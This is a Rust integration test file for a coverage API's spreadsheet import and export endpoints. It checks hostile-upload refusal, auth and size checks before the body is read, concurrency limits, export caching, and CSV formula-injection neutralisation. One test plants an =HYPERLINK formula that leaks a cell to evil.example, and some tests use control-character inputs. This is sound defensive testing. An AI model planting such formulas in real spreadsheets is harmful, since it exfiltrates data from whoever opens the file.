//! Spreadsheets as an attacker with a city office's token would send them, and exports as
//! strangers would ask for them: the hostile corpus (`benches/corpus`) each refused or read as
//! it says with the server answering throughout; who before what (the token before the body,
//! the byte bound before reading); places for imports and exports (503 with `Retry-After`);
//! exports kept ready until the next commit (no statement for a repeat, `ETag` and 304, a
//! commit on either instance seen at once); and CSV that is safe to open and reads back as
//! written. Memory and time are the bench's (`cargo bench --bench sheets`).

#[path = "../../benches/corpus/mod.rs"]
pub(crate) mod corpus;

use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::Duration;

use coverage_api::config::ServeArgs;
use entity::Role;
use serde_json::{Value, json};
use tokio::io::{AsyncReadExt, AsyncWriteExt};

use crate::helpers::TestApp;
use crate::sheets::{import, stored, token};
use corpus::Expect;

/// `/healthz` asked every 10 ms until `stop`; the number of answers, and of anything else.
fn watch_health(app: &TestApp, stop: Arc<AtomicBool>) -> tokio::task::JoinHandle<(usize, usize)> {
    let (client, url) = (app.client.clone(), app.url("/healthz"));
    tokio::spawn(async move {
        let (mut ok, mut failed) = (0, 0);
        while !stop.load(Ordering::SeqCst) {
            match client.get(&url).send().await {
                Ok(r) if r.status() == 200 => ok += 1,
                _ => failed += 1,
            }
            tokio::time::sleep(Duration::from_millis(10)).await;
        }
        (ok, failed)
    })
}

#[tokio::test]
async fn every_hostile_spreadsheet_is_refused_or_read_and_the_server_answers_throughout() {
    let app = TestApp::spawn().await;
    let admin = token(&app, "Province admin", Role::Admin, None).await;
    let before = stored(&app).await;
    let stop = Arc::new(AtomicBool::new(false));
    let health = watch_health(&app, Arc::clone(&stop));
    for case in corpus::cases() {
        let (status, report) = import(&app, Some(&admin), case.bytes, true, "hostile").await;
        match case.expect {
            Expect::Read { changes } => {
                assert_eq!(
                    (
                        status,
                        report["errors"].clone(),
                        report["changes"].as_array().map(Vec::len)
                    ),
                    (200, json!([]), Some(changes)),
                    "{}: {report}",
                    case.name
                );
            }
            Expect::Refused { status: want, code } => {
                assert_eq!(
                    (status, report["errors"][0]["code"].as_str()),
                    (want, Some(code)),
                    "{}: {report}",
                    case.name
                );
                for language in ["message_en", "message_zh"] {
                    let message = report["errors"][0][language].as_str().unwrap_or_default();
                    assert!(!message.is_empty(), "{}: {report}", case.name);
                }
            }
        }
        assert_eq!(report["applied"], false, "{}", case.name);
        let alive = app.query("{ periods }").await;
        assert_eq!(
            alive,
            json!({ "data": { "periods": [2023] } }),
            "{}",
            case.name
        );
    }
    stop.store(true, Ordering::SeqCst);
    let (answered, failed) = health.await.unwrap();
    assert!(answered > 0, "/healthz was asked during the corpus");
    assert_eq!(failed, 0, "/healthz answered every time");
    assert_eq!(stored(&app).await, before, "dry runs change nothing");
}

/// Sends `head` (a request's line and headers) and `body` on a socket, then waits up to 10 s
/// for the answer's status line and headers, holding the socket open.
async fn raw(app: &TestApp, head: &str, body: &[u8]) -> (tokio::net::TcpStream, String) {
    let mut socket = tokio::net::TcpStream::connect(app.addr).await.unwrap();
    socket.write_all(head.as_bytes()).await.unwrap();
    socket.write_all(body).await.unwrap();
    let mut answer = Vec::new();
    let mut buf = [0u8; 4096];
    let read = tokio::time::timeout(Duration::from_secs(10), async {
        loop {
            let n = socket.read(&mut buf).await.unwrap_or(0);
            answer.extend_from_slice(&buf[..n]);
            if n == 0 || answer.windows(4).any(|w| w == b"\r\n\r\n") {
                break;
            }
        }
    })
    .await;
    assert!(read.is_ok(), "answered without the body: {head}");
    (socket, String::from_utf8_lossy(&answer).into_owned())
}

#[tokio::test]
async fn the_token_and_the_declared_length_are_checked_before_a_byte_of_the_body_is_read() {
    let app = TestApp::spawn().await;
    let admin = token(&app, "Province admin", Role::Admin, None).await;
    let max = ServeArgs::default().import_max_bytes;
    // A stranger declares 4 MiB and sends none of it: answered at once.
    let (_, answer) = raw(
        &app,
        "POST /import/coverage HTTP/1.1\r\nhost: x\r\ncontent-length: 4194304\r\n\r\n",
        b"",
    )
    .await;
    assert!(answer.starts_with("HTTP/1.1 401"), "{answer}");
    // A token holder declares one byte over the bound: 413 at once, in the report's format.
    let head = format!(
        "POST /import/coverage HTTP/1.1\r\nhost: x\r\nauthorization: Bearer {admin}\r\n\
         content-length: {}\r\nconnection: close\r\n\r\n",
        max + 1
    );
    let (mut socket, answer) = raw(&app, &head, b"").await;
    assert!(answer.starts_with("HTTP/1.1 413"), "{answer}");
    let mut rest = Vec::new();
    socket.read_to_end(&mut rest).await.unwrap();
    let text = format!("{answer}{}", String::from_utf8_lossy(&rest));
    let body = &text[text.find("\r\n\r\n").unwrap() + 4..];
    let report: Value = serde_json::from_str(body).unwrap();
    assert_eq!(report["errors"][0]["code"], "TOO_LARGE", "{report}");
    assert_eq!(report["applied"], false);
    // Sent without a length (chunked), one byte over: 413 in the report's format too.
    let (status, report) = import(&app, Some(&admin), vec![b' '; max + 1], false, "big").await;
    assert_eq!(
        (status, report["errors"][0]["code"].as_str()),
        (413, Some("TOO_LARGE"))
    );
    // Exactly the bound is read (and refused for what it holds, not for its size).
    let (status, report) = import(&app, Some(&admin), vec![b'\n'; max], false, "lines").await;
    assert_eq!(
        (status, report["errors"][0]["code"].as_str()),
        (400, Some("UNREADABLE_FILE"))
    );
}

/// `request` is answered 503 with `Retry-After` and a `BUSY` report in both languages.
async fn assert_busy(request: reqwest::RequestBuilder) {
    let busy = request.send().await.unwrap();
    assert_eq!(busy.status(), 503);
    assert_eq!(busy.headers()["retry-after"], "5");
    let report: Value = busy.json().await.unwrap();
    assert_eq!(report["errors"][0]["code"], "BUSY", "{report}");
    let zh = report["errors"][0]["message_zh"].as_str().unwrap();
    assert!(zh.contains("稍后"), "{report}");
}

#[tokio::test]
async fn imports_beyond_the_places_are_answered_503_with_retry_after_and_the_place_comes_back() {
    let app = TestApp::spawn_with(ServeArgs {
        import_concurrency: 1,
        ..ServeArgs::default()
    })
    .await;
    let admin = token(&app, "Province admin", Role::Admin, None).await;
    // An upload that takes its time holds the one place.
    let head = format!(
        "POST /import/coverage HTTP/1.1\r\nhost: x\r\nauthorization: Bearer {admin}\r\n\
         content-length: 1000\r\n\r\n"
    );
    let mut slow = tokio::net::TcpStream::connect(app.addr).await.unwrap();
    slow.write_all(head.as_bytes()).await.unwrap();
    slow.write_all(b"city,").await.unwrap();
    // Once it holds the place (it takes it after its token, before its body)…
    for _ in 0..500 {
        if app.sheets.imports.available_permits() == 0 {
            break;
        }
        tokio::time::sleep(Duration::from_millis(10)).await;
    }
    assert_eq!(
        app.sheets.imports.available_permits(),
        0,
        "the slow upload holds the place"
    );
    // …another import is answered at once.
    let request = app
        .client
        .post(app.url("/import/coverage?dryRun=true"))
        .bearer_auth(&admin)
        .body(corpus::CSV);
    assert_busy(request).await;
    drop(slow);
    let mut status = 0;
    for _ in 0..100 {
        let (got, _) = import(&app, Some(&admin), corpus::CSV.into(), true, "again").await;
        status = got;
        if got != 503 {
            break;
        }
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
    assert_eq!(
        status, 200,
        "the place is free again once the first upload ended"
    );
}

#[tokio::test]
async fn an_export_beyond_the_places_is_answered_503_and_a_kept_one_needs_no_place() {
    let app = TestApp::spawn().await;
    let (_, kept) = crate::sheets::download(&app, "/export/coverage.csv?period=2023").await;
    let exports = Arc::clone(&app.sheets.exports);
    let _held = exports.acquire_many(1).await.unwrap();
    assert_busy(app.client.get(app.url("/export/coverage.xlsx?period=2023"))).await;
    let (_, again) = crate::sheets::download(&app, "/export/coverage.csv?period=2023").await;
    assert_eq!(again, kept, "kept ready: answered without a place");
}

async fn get_export(
    app: &TestApp,
    path: &str,
    etag: Option<&str>,
) -> (u16, Option<String>, Vec<u8>) {
    let mut request = app.client.get(app.url(path));
    if let Some(etag) = etag {
        request = request.header("if-none-match", etag);
    }
    let response = request.send().await.unwrap();
    let status = response.status().as_u16();
    let etag = response
        .headers()
        .get("etag")
        .map(|v| v.to_str().unwrap().to_owned());
    (status, etag, response.bytes().await.unwrap().to_vec())
}

const UPDATE: &str = "mutation($input: UpdateCoverageInput!) { updateCoverage(input: $input) {
    coverage { source version } userErrors { field code } } }";

/// Jiaozuo's 2024 enterprise record, which an administrator writes outside any round (public at
/// once), as it stands.
async fn jiaozuo_2024(app: &TestApp) {
    app.insert_coverage(
        "410800",
        entity::BranchType::Enterprise,
        2024,
        Some(1),
        Some(200),
        Some(5),
        None,
    )
    .await;
}

/// Jiaozuo's 2024 enterprise record (version `version`) with `source`.
async fn set_source(app: &TestApp, admin: &str, source: &str, version: i32) -> Value {
    app.query_as(
        Some(admin),
        UPDATE,
        json!({ "input": { "cityCode": "410800", "branchType": "ENTERPRISE", "period": 2024,
                           "expectedVersion": version, "source": source } }),
    )
    .await
}

#[tokio::test]
async fn a_repeated_export_is_answered_from_memory_until_the_next_commit_on_any_instance() {
    // Statements tell an export computed from one kept ready: no other reader may count.
    let app = TestApp::spawn_with(crate::helpers::database_reads()).await;
    let admin = token(&app, "Province admin", Role::Admin, None).await;
    jiaozuo_2024(&app).await;
    for path in [
        "/export/coverage.xlsx?period=2023",
        "/export/coverage.csv?lang=en",
        "/export/template.xlsx?city=410800&period=2023",
    ] {
        let (status, etag, first) = get_export(&app, path, None).await;
        assert_eq!(status, 200, "{path}");
        let etag = etag.expect("an ETag");
        let (statements, (status, again_etag, again)) =
            app.statements_during(get_export(&app, path, None)).await;
        assert_eq!((status, statements), (200, 0), "{path}: from memory");
        assert_eq!(
            (again_etag.as_deref(), &again),
            (Some(etag.as_str()), &first),
            "{path}"
        );
        let (status, _, body) = get_export(&app, path, Some(&etag)).await;
        assert_eq!((status, body.len()), (304, 0), "{path}");
    }
    let (_, before, _) = get_export(&app, "/export/coverage.csv?period=2024", None).await;
    let written = set_source(&app, &admin, "河南省科协 2024 年度年报（修订）", 1).await;
    assert_eq!(
        written["data"]["updateCoverage"]["userErrors"],
        json!([]),
        "{written}"
    );
    let (status, after, body) =
        get_export(&app, "/export/coverage.csv?period=2024", before.as_deref()).await;
    assert_eq!(status, 200, "a commit makes the kept export stale");
    assert_ne!(after, before);
    assert!(String::from_utf8(body).unwrap().contains("（修订）"));
    if std::env::var("TEST_DATABASE_URL").is_ok_and(|u| !u.is_empty()) {
        // Another instance keeps its own, and drops it when this one commits.
        let other = app.second_instance().await;
        let path = "/export/coverage.csv?period=2024";
        let (_, kept, _) = get_export(&other, path, None).await;
        set_source(&app, &admin, "河南省科协 2024 年度年报（再次修订）", 2).await;
        let mut seen = false;
        for _ in 0..200 {
            let (_, etag, body) = get_export(&other, path, None).await;
            if etag != kept {
                assert!(String::from_utf8(body).unwrap().contains("再次修订"));
                seen = true;
                break;
            }
            tokio::time::sleep(Duration::from_millis(10)).await;
        }
        assert!(
            seen,
            "the other instance's kept export was dropped on the commit"
        );
    }
}

#[tokio::test]
async fn a_source_that_starts_like_a_formula_is_neutralised_in_csv_and_reads_back_as_stored() {
    let app = TestApp::spawn().await;
    let admin = token(&app, "Province admin", Role::Admin, None).await;
    jiaozuo_2024(&app).await;
    let formula = r#"=HYPERLINK("http://evil.example/?leak="&A2, "Source: click for details")"#;
    let written = set_source(&app, &admin, formula, 1).await;
    assert_eq!(
        written["data"]["updateCoverage"]["userErrors"],
        json!([]),
        "{written}"
    );
    let (_, csv) = crate::sheets::download(&app, "/export/coverage.csv?period=2024").await;
    let text = String::from_utf8(csv.clone()).unwrap();
    let line = text
        .lines()
        .find(|l| l.starts_with("410800,") && l.contains("企业科协"))
        .unwrap();
    assert!(
        line.contains(
            r#""'=HYPERLINK(""http://evil.example/?leak=""&A2, ""Source: click for details"")""#
        ),
        "{line}"
    );
    assert!(!text.lines().any(|l| {
        l.split(',')
            .any(|cell| cell.starts_with(['=', '+', '-', '@']))
    }));
    // Read back: nothing changes.
    let before = stored(&app).await;
    let (status, report) = import(&app, Some(&admin), csv.clone(), false, "back.csv").await;
    assert_eq!(
        (status, report["changes"].clone(), report["errors"].clone()),
        (200, json!([]), json!([])),
        "{report}"
    );
    assert_eq!(stored(&app).await, before);
    // A figure changed in the file: written, the source as it was.
    let mut record = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(line.as_bytes())
        .records()
        .next()
        .unwrap()
        .unwrap();
    let count: i32 = record[6].parse().unwrap();
    record = record
        .iter()
        .enumerate()
        .map(|(i, field)| {
            if i == 4 {
                (count + 1).to_string()
            } else {
                field.to_owned()
            }
        })
        .collect();
    let mut edited = csv::Writer::from_writer(Vec::new());
    edited
        .write_record(
            text.lines()
                .next()
                .unwrap()
                .trim_start_matches('\u{feff}')
                .split(','),
        )
        .unwrap();
    edited.write_record(&record).unwrap();
    let edited = edited.into_inner().unwrap();
    let (status, report) = import(&app, Some(&admin), edited, false, "edited.csv").await;
    assert_eq!(status, 200, "{report}");
    assert_eq!(report["changes"][0]["after"]["source"], formula, "{report}");
    assert_eq!(
        report["changes"][0]["after"]["branchCount"],
        count + 1,
        "{report}"
    );
}

#[tokio::test]
async fn texts_with_control_characters_are_refused_on_every_write_path() {
    let app = TestApp::spawn().await;
    let admin = token(&app, "Province admin", Role::Admin, None).await;
    let before = stored(&app).await;
    for (field, value) in [
        ("source", "a\tb"),
        ("source", "\r=1+1"),
        ("rateScope", "line\nbreak"),
        ("note", "bell\u{7}"),
    ] {
        let mut input = json!({ "cityCode": "410800", "branchType": "ENTERPRISE",
                                "period": 2023, "expectedVersion": 1, "source": "ok" });
        input[field] = json!(value);
        let answer = app
            .query_as(Some(&admin), UPDATE, json!({ "input": input }))
            .await;
        assert_eq!(
            answer["data"]["updateCoverage"]["userErrors"],
            json!([{ "field": ["input", field], "code": "BAD_USER_INPUT" }]),
            "{field} {value:?}: {answer}"
        );
    }
    // In a file: the cell is refused, nothing is written.
    let file = "城市代码,组织类型,年度,来源,版本\n410800,企业科协,2023,\"a\tb\",1\n";
    let (status, report) = import(&app, Some(&admin), file.into(), false, "tab.csv").await;
    assert_eq!(
        (
            status,
            report["errors"][0]["code"].as_str(),
            report["errors"][0]["column"].as_str()
        ),
        (422, Some("BAD_USER_INPUT"), Some("来源")),
        "{report}"
    );
    assert_eq!(stored(&app).await, before);
    let refused =
        coverage_api::service::tokens::create(&app.db.conn, "A\nB", Role::Admin, None).await;
    assert!(refused.is_err(), "a token name with a line break");
}

#[tokio::test]
async fn imports_and_exports_at_once_leave_health_and_reads_answering() {
    let app = TestApp::spawn_with(ServeArgs {
        import_concurrency: 2,
        export_concurrency: 2,
        ..ServeArgs::default()
    })
    .await;
    let admin = token(&app, "Province admin", Role::Admin, None).await;
    let stop = Arc::new(AtomicBool::new(false));
    let health = watch_health(&app, Arc::clone(&stop));
    let big = corpus::largest_honest(10_000);
    let mut tasks = Vec::new();
    for i in 0..4 {
        let (client, admin, big) = (app.client.clone(), admin.clone(), big.clone());
        let url = app.url("/import/coverage?dryRun=true");
        tasks.push(tokio::spawn(async move {
            let status = client
                .post(url)
                .bearer_auth(admin)
                .body(big)
                .send()
                .await
                .unwrap()
                .status()
                .as_u16();
            assert!([422, 503].contains(&status), "import {i}: {status}");
        }));
        let url = app.url(["/export/coverage.xlsx", "/export/coverage.csv"][i % 2]);
        let client = app.client.clone();
        tasks.push(tokio::spawn(async move {
            let status = client
                .get(format!("{url}?lang={}", ["zh", "en"][i / 2]))
                .send()
                .await
                .unwrap()
                .status()
                .as_u16();
            assert!([200, 503].contains(&status), "export {i}: {status}");
        }));
    }
    for task in tasks {
        task.await.unwrap();
    }
    stop.store(true, Ordering::SeqCst);
    let (answered, failed) = health.await.unwrap();
    assert!(
        answered > 0 && failed == 0,
        "{answered} answered, {failed} failed"
    );
    assert_eq!(
        app.query("{ periods }").await,
        json!({ "data": { "periods": [2023] } })
    );
}
